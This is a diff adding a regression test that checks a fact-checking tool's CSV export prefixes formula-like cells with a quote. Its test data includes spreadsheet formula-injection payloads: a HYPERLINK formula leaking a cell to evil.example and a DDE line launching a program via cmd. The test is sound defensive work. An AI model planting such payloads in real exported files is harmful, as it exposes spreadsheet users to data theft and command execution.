@@ -156,6 +156,22 @@ def test_table_shows_ranked_sentences_and_csv_has_every_row(debate_triage):
     assert [r["text"] for r in rows] == [row.text for row in debate_triage.rows]
 
 
+def test_csv_cells_that_a_spreadsheet_would_evaluate_are_kept_as_text():
+    """Hostile round 3: `veracity claims --format csv` wrote statements such as
+    =HYPERLINK(...) as they were, so a spreadsheet opening the file ran them as formulas."""
+    lines = [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Read the fact-check")',
+        "+1+cmd|' /C calc'!A0",
+        "@SUM(1+1) The council spent 40 percent more on water in 2023.",
+        "-2+3 is what the minister wrote in the budget on Monday.",
+        "The council spent 40 percent more on water in 2023.",
+    ]
+    triage = triage_text("\n".join(lines), by_line=True)
+    rows = list(csv.DictReader(io.StringIO(triage_csv(triage))))
+    by_line = {int(row["line"]): row["text"] for row in rows}
+    assert [by_line[n] for n in range(1, 6)] == ["'" + line for line in lines[:4]] + [lines[4]]
+
+
 def test_table_shows_bracketed_transcript_text_verbatim():
     """Audit: the table read cells as Rich markup, so "[applause]" vanished from sentences
     and a fact-checker's "[pants-fire]" rating from the fact-check column."""
